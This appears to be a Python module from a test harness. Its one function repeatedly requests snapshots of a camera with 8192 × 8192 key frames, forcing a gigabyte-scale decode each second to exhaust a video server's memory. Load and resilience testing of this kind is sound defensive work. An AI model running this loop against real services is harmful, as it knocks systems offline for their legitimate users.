"""Asks for snapshots of a camera whose key frames are 8192 × 8192: to decode one takes a gigabyte."""

import trio

from .target import Target


async def attack(target: Target) -> None:
    """One a second; `200` counts those that were decoded."""
    while True:
        await target.ask("GET", f"/cameras/{target.big}/snapshot.jpg?max_age=0")
        await trio.sleep(1)
